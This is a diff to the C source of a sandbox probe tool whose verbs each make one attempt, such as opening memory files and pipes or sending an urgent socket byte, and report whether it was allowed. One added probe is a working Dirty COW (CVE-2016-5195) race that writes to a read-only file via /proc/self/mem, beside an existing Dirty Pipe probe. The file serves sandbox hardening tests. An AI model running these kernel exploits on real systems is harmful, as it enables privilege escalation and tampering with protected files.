@@ -1,8 +1,7 @@
 /*
  * What a shell cannot try by itself: `probe VERB ARGUMENTS...` makes one attempt. Ends with 0 when it got what it tried
- * for, with 1 when that was refused, with 126 when it could not
- * try, with 137 when it was killed for it. Linked statically,
- * and run inside sandboxes by main.ts.
+ * for, with 1 when that was refused, with 126 when it could not try, with 137 when it was killed for it. Linked
+ * statically, and run inside sandboxes.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -88,6 +87,17 @@ static int try_socketpair(void) {
   int pair[2];
   return got(!socketpair(number(0), SOCK_STREAM, 0, pair));
 }
+static int try_memory_file(void) { return got(memfd_create("x", number(0)) >= 0); }
+static int try_pipe(void) {
+  int ends[2];
+  return got(!pipe2(ends, number(0)));
+}
+/* An urgent byte over a local socket. */
+static int try_urgent(void) {
+  int pair[2];
+  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return UNKNOWN;
+  return got(send(pair[0], "!", 1, MSG_OOB) == 1);
+}
 static int try_option(void) {
   int one = 1, own = socket(AF_INET, SOCK_STREAM, 0);
   if (own < 0) return UNKNOWN;
@@ -130,7 +140,6 @@ static int try_priority(void) { return got(!setpriority(PRIO_PROCESS, 0, number(
 static int try_huge_pages(void) {
   return got(mmap(NULL, 2 << 20, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0) != MAP_FAILED);
 }
-static int try_huge_file(void) { return got(memfd_create("x", MFD_HUGETLB) >= 0); }
 static int try_low_memory(void) {
   return got(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == NULL);
 }
@@ -213,6 +222,25 @@ static int try_dirty_pipe(void) {
   if (write(ends[1], "!", 1) < 0) return REFUSED;
   return got(pread(file, after, 2, 0) == 2 && memcmp(before, after, 2));
 }
+/* Writes through /proc/self/mem to a private page of a file that may only be read, while it is thrown away (CVE-2016-5195). */
+static int try_dirty_cow(void) {
+  char before[8], after[8];
+  int file = open(words[0], O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
+  if (file < 0 || pread(file, before, sizeof before, 0) != sizeof before) return UNKNOWN;
+  char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+  if (page == MAP_FAILED) return UNKNOWN;
+  pid_t thrower = fork();
+  if (thrower < 0) return UNKNOWN;
+  for (int round = 0; round < 20000; round++) {
+    if (thrower == 0) madvise(page, 4096, MADV_DONTNEED);
+    else if (memory < 0 || pwrite(memory, "!", 1, (off_t)page) < 0) break;
+  }
+  if (thrower == 0) _exit(0);
+  waitpid(thrower, NULL, 0);
+  return got(pread(file, after, sizeof after, 0) == sizeof after && memcmp(before, after, sizeof before));
+}
+/* As a program that its file was to raise to another user or group. */
+static int try_raised(void) { return got(geteuid() != getuid() || getegid() != getgid()); }
 static int try_queues(void) {
   char name[16];
   int count = 0;
@@ -271,13 +299,14 @@ static const struct { const char *verb; int (*attempt)(void); } attempts[] = {
   { "descriptors", try_descriptors }, { "capabilities", try_capabilities }, { "prctl", try_prctl },
   { "setuid", try_setuid }, { "setgroups", try_setgroups }, { "core-limit", try_core_limit },
   { "raise-limit", try_raise_limit }, { "scheduler", try_scheduler }, { "priority", try_priority },
-  { "huge-pages", try_huge_pages }, { "huge-file", try_huge_file }, { "low-memory", try_low_memory },
+  { "huge-pages", try_huge_pages }, { "memory-file", try_memory_file },
+  { "pipe", try_pipe }, { "urgent", try_urgent }, { "low-memory", try_low_memory },
   { "terminal", try_terminal }, { "pass-descriptor", try_pass_descriptor }, { "abstract", try_abstract },
   { "tcp", try_tcp }, { "shared-memory", try_shared_memory }, { "messages", try_messages },
   { "semaphores", try_semaphores }, { "any-shared-memory", try_any_shared_memory }, { "queue", try_queue },
   { "signal", try_signal }, { "used-memory", try_used_memory }, { "used-disk", try_used_disk },
   { "dirty-pipe", try_dirty_pipe }, { "queues", try_queues }, { "signals-queued", try_signals_queued },
-  { "neighbour", be_neighbour },
+  { "dirty-cow", try_dirty_cow }, { "raised", try_raised }, { "neighbour", be_neighbour },
 };
 
 int main(int count, char **arguments) {
